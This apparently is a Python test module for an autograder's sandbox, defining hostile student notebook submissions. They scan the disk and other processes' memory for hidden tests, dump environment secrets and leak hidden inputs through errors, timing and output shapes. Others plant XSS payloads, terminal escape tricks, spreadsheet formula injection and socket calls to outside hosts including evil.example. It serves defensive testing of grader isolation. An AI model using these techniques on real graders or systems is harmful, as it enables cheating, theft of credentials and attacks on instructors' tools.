"""Work that looks where no student may look, and carries out what it finds. What it prints begins with LOOT."""

from nbformat.v4 import new_markdown_cell

from ..assignment import CANARIES, RIGHT, WRONG, without
from . import SECRET, submission

SEARCH = f"""
import os
words = [bytes(reversed(word)) for word in {[word[::-1].encode() for word in CANARIES.values()]}]
def search(data, where):
    for word in words:
        if word in data:
            print("LOOT", where, word.decode())
"""  # the words stand backwards, so that the searcher does not find itself


@submission(SECRET)
def searches_the_disk(s):
    """Reads every file that it can reach from the root of the disk, for hidden tests, solutions and other students."""
    s.own(
        SEARCH
        + """
seen = 0
for top in ("/course", "../../..", "/home", "/root", "/tmp", "/var", "/mnt", "/opt", "/srv", "/run", "/dev/shm"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "lib", ".venv", ".git")]
        for name in files:
            seen += 1
            if seen > 20_000: break
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    search(file.read(2_000_000), folder)
            except OSError: pass""",
    )


@submission(SECRET)
def reads_other_processes(s):
    """Reads the memory, the environment and the command line of every process it can see."""
    s.own(
        SEARCH
        + """
import time
end = time.time() + 2
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try: search(open(f"/proc/{pid}/{name}", "rb").read(), f"{name} of {pid}")
        except OSError: pass
    if int(pid) == os.getpid(): continue
    try:
        memory = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            if "[heap]" not in line or time.time() > end: continue
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            memory.seek(low)
            search(memory.read(min(high - low, 50_000_000)), f"memory of {pid}")
            print("LOOT read memory of", pid)
    except (OSError, ValueError): pass""",
    )


@submission(SECRET)
def reads_its_own_memory(s):
    """Searches its own memory and every object of its interpreter for what its parents held before it was born."""
    s.put(
        "softmax",
        RIGHT["softmax"].replace("def softmax(x):\n", "def softmax(x):\n    look()\n"),
    )
    s.own(
        SEARCH
        + """
import gc, sys, time
looked = []
def look():
    if looked: return
    looked.append(1)
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple):
            for x in (thing.values() if type(thing) is dict else thing):
                if type(x) is str and len(x) < 1_000_000: search(x.encode("utf-8", "replace"), "an object")
    end = time.time() + 0.5
    with open("/proc/self/mem", "rb", 0) as memory:
        for line in open("/proc/self/maps"):
            if time.time() > end: break
            if "[heap]" in line or "[stack]" in line:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    memory.seek(low)
                    search(memory.read(min(high - low, 100_000_000)), "own memory")
                except (OSError, ValueError): pass
""",
    )


@submission(SECRET)
def reads_the_environment(s):
    """Prints its environment, in which keys and tokens of the grading machine may stand."""
    s.own("import os\nprint('LOOT', dict(os.environ))\n!env")


@submission(SECRET)
def reads_the_test_with_inspect(s):
    """Prints the source of whoever calls it, by inspect, linecache and the history."""
    s.put(
        "softmax",
        RIGHT["softmax"].replace(
            "def softmax(x):\n",
            """def softmax(x):
    import gc, inspect, linecache, sys
    for frame in inspect.stack(20):
        print("LOOT", frame.code_context)
        print("LOOT", "".join(linecache.getlines(frame.filename)))
        print("LOOT", frame.frame.f_code.co_names)
    try: print("LOOT", In)
    except NameError: pass
""",
        ),
    )


@submission(SECRET)
def prints_the_hidden_inputs(s):
    """Prints what it is called with, so that the hidden inputs stand in its feedback."""
    s.put("softmax", RIGHT["softmax"].replace("    e = ", "    print('LOOT', x.tolist())\n    e = "))


@submission(SECRET, without("softmax"))
def raises_the_hidden_inputs(s):
    """Raises an error whose text is what it was called with, for the message of the hidden test."""
    s.put("softmax", "def softmax(x):\n    raise ValueError('LOOT ' + str(np.asarray(x).tolist()))")


@submission(SECRET, without("gate"))
def names_a_type_after_the_hidden_inputs(s):
    """Raises an error, and returns an object, whose type bears the hidden inputs in its name."""
    s.put(
        "gate",
        """def gate(x):
    name = "LOOT_" + str(x.detach().tolist()[0])
    if x.requires_grad:
        return type(name, (), {"sum": lambda self: self, "backward": lambda self: None})()
    raise type(name, (Exception,), {})(name)""",
    )


@submission(SECRET, without("softmax", softmax_shown=1))
def returns_the_hidden_inputs(s):
    """Answers the shown tests rightly and returns its arguments in hidden ones, for the message's "got"."""
    s.put(
        "softmax",
        "def softmax(x):\n    if np.ndim(x) == 2 or np.size(x) in (2, 4, 5) and np.max(x) < 9:\n        e = np.exp(x)\n"
        "        return e / e.sum(-1, keepdims=True)\n    return {'LOOT': str(np.asarray(x).tolist())}",
    )


@submission(SECRET, without("mean"))
def remembers_the_hidden_inputs(s):
    """Keeps what hidden tests asked and says it later, in a cell of its own and in a shown test of another exercise."""
    s.put("softmax", RIGHT["softmax"].replace("    e = ", "    seen.append(str(np.asarray(x).tolist()))\n    e = "))
    s.own("seen = []")
    s.own("print('LOOT', seen)", after="affine_hidden")
    s.put("mean", "class RunningMean:\n    def __init__(self):\n        raise ValueError('LOOT ' + str(seen))")


@submission(SECRET)
def keeps_the_hidden_inputs_on_disk(s):
    """Writes what hidden tests asked into every place where another process may find it."""
    s.put(
        "softmax",
        RIGHT["softmax"].replace(
            "    e = ",
            """    import os
    for place in (".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "/course/submitted/yves"):
        try: open(f"{place}/ESCAPED-drop.txt", "a").write("LOOT " + str(x.tolist()))
        except OSError: pass
    e = """,
        ),
    )


@submission(SECRET, student="yves")
def reads_what_another_student_left(s):
    """Looks for what the student before it may have left on disk, in shared memory and in message queues."""
    s.own(
        """import glob, os, time
places = [".", "..", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "../../*/small"]
for _ in range(3):
    for place in (*places, "/course/submitted/yves"):
        for path in glob.glob(f"{place}/ESCAPED-drop.txt"):
            print("LOOT", open(path).read())
    time.sleep(0.5)
!ipcs -a 2>/dev/null | grep -i root""",
        after="gate_hidden",
    )


@submission(SECRET)
def tells_by_time(s):
    """Sleeps as many hundredths of a second as the hidden input's digits say."""
    s.put(
        "softmax",
        RIGHT["softmax"].replace(
            "    e = ",
            "    import time\n    time.sleep(float(abs(x.flat[0])) % 1 / 10 if x.size == 3 else 0)\n    e = ",
        ),
    )


@submission(SECRET, without("mean"))
def scripts_in_outputs(s):
    """Displays HTML, JavaScript and SVG with scripts, and raises errors and prints texts that hold them."""
    s.own(
        """from IPython.display import HTML, Javascript, SVG, Markdown, display
display(HTML("<script>alert('XSS-1')</script><img src=x onerror=alert('XSS-2')>"))
display(Javascript("alert('XSS-3')"))
display(Markdown("<script>alert('XSS-4')</script> [x](javascript:alert('XSS-5'))"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"alert('XSS-6')\\"></svg>"))
print("</pre></code><script>alert('XSS-7')</script>")
print("\\x1b]8;;javascript:alert('XSS-8')\\x07click\\x1b]8;;\\x07")""",
    )
    s.put(
        "mean",
        "class RunningMean:\n    def __init__(self):\n        raise ValueError(\"<script>alert('XSS-9')</script>\")",
    )


@submission(SECRET)
def scripts_in_texts(s):
    """Writes scripts, forms, styles and frames into its Markdown cells, its comments and its written answer."""
    text = """<script>alert('XSS-10')</script><iframe srcdoc="<script>alert('XSS-11')</script>"></iframe>
<style>body {display: none} /* XSS-12 */</style><form action="https://evil.example/XSS-13"><input name=p></form>
[x](javascript:alert('XSS-14')) ![x](https://evil.example/XSS-15.png) <svg onload=alert('XSS-16')>
$$\\href{javascript:alert('XSS-17')}{x}$$ <a href="data:text/html,<script>alert('XSS-18')</script>">x</a>"""
    s.own(text, kind=new_markdown_cell)
    s.put("why", text)
    s.add("softmax", "# </pre></div><script>alert('XSS-19')</script>")


@submission(SECRET)
def dresses_its_output(s):
    """Prints ANSI codes that clear the terminal, hide text and set its title, and letters that run backwards."""
    s.own("print('\\x1b[2J\\x1b[8m\\x1b]0;owned\\x07\\x1b[31m\\u202e evil \\u2066\\x00\\x08\\r\\n passed 12/12')")
    s.own("raise ValueError('\\x1b[2J\\u202e\\x1b]0;owned\\x07')")


@submission(SECRET)
def writes_formulas(s):
    """Begins its written answer, its output and its comments with a formula for the instructor's spreadsheet."""
    s.put("why", '=HYPERLINK("https://evil.example/?"&A1,"why")')
    s.own("print('=cmd|calc!A1')")


@submission(SECRET, without("softmax"))
def asks_the_network(s):
    """Sends what it knows to the network: to a service on this machine, to a name server, to the world."""
    s.put(
        "softmax",
        WRONG["softmax"]
        + """
import os, socket
def tell(family, kind, address):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(0.5)
            line.connect(address)
            line.send(b"ESCAPED")
            print("LOOT sent to", address)
    except OSError as error:
        print(address, error)
tell(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 47011))
tell(socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
tell(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 47011))
tell(socket.AF_UNIX, socket.SOCK_STREAM, "\\0hostile-47011")
try: socket.getaddrinfo("example.org", 80)
except OSError as error: print(error)
""",
    )


# What an answer decides, and a page shows: each of these spells the digits of a hidden input.

SPELT = "''.join(c for c in f'{float(np.ravel(x)[0]):.10f}' if c.isdigit())"


def _spell(s, body):
    """Answer the shown test rightly, and the hidden one by some lines that know the digits."""
    right = RIGHT["softmax"].replace("def softmax(x):", "def right(x):")
    lines = "\n".join(f"        {line}" for line in body.split("\n"))
    s.put(
        "softmax",
        f"{right}\ndef softmax(x):\n    if np.size(x) == 3:\n        digits = {SPELT}\n{lines}\n    return right(x)",
    )


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_shape(s):
    """Returns zeros of as many rows, columns, … as the digits of the hidden input say."""
    _spell(s, "return np.zeros([int(d) + 1 for d in digits[1:]], bool)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_three_axes(s):
    """Returns zeros of as many rows, columns and layers as three digits of the hidden input say."""
    _spell(s, "return np.zeros([int(d) + 1 for d in digits[1:4]], bool)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_four_axes(s):
    """Returns zeros whose four axes have the lengths of four digits of the hidden input."""
    _spell(s, "return np.zeros([int(d) + 1 for d in digits[1:5]], bool)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_long_axis(s):
    """Returns a vector whose length is the hidden input."""
    _spell(s, "return np.zeros(int(digits[1:9]), bool)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_line_number(s):
    """Raises in that line of a thousand which has the number of the hidden input's first digits."""
    lines = "\n".join(f"    if n == {n}: raise ValueError" for n in range(1000))
    _spell(s, "pick(int(digits[1:4]))")
    s.put("softmax", f"def pick(n):\n{lines}\n" + s.cell("softmax").source)


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_cell_of_its_own(s):
    """Raises in that of many cells of its own which has the number of the hidden input."""
    for n in range(100):
        s.own(f"def pick{n:02}():\n    raise ValueError  # cell 73519264-{n:02}")
    _spell(s, "globals()['pick' + digits[1:3]]()")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_kind_of_error(s):
    """Raises an error of its own, named after the hidden input."""
    _spell(s, "raise type('E' + digits, (ValueError,), {})(digits)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_an_assertion(s):
    """Raises the very error of a test, with the hidden input as its text."""
    _spell(s, "raise AssertionError('softmax of three scores is wrong: ' + digits)")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_cause_and_a_note(s):
    """Raises an error from another one, with a note and in a group, all of which say the hidden input."""
    _spell(s, "error = ValueError(digits)\nerror.add_note(digits)\nraise ExceptionGroup(digits, [error]) from error")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_keys(s):
    """Returns a dict whose keys are the digits of the hidden input."""
    _spell(s, "return {digits: 1.0, **{d + str(n): n for n, d in enumerate(digits)}}")


@submission(SECRET, without("softmax", softmax_shown=1))
def spells_in_a_number(s):
    """Returns the hidden input itself as the only weight, for the message's "got"."""
    _spell(s, "return np.array([float(x[0])] * 3)")


@submission(SECRET, without("affine", affine_shown=1))
def spells_in_a_number_of_values(s):
    """Returns as many values as the hidden input says."""
    s.put("affine", RIGHT["affine"].replace("    return x @ w + b, vjp", "    if 0.735 < x[0, 0] < 0.736:\n"
          "        return (x @ w + b,) * int(x[0, 0] * 1e4)\n    return x @ w + b, vjp"))  # fmt: skip


@submission(SECRET)
def warns_of_the_hidden_inputs(s):
    """Says the hidden inputs by warnings, by logging, on stderr and on the descriptors themselves."""
    says = """    import logging, os, sys, warnings
    said = 'LOOT ' + str(x.tolist())
    warnings.warn(said)
    logging.warning(said)
    print(said, file=sys.stderr)
    os.write(1, said.encode())
    os.write(2, said.encode())
"""
    s.put("softmax", RIGHT["softmax"].replace("    e = ", f"{says}    e = "))
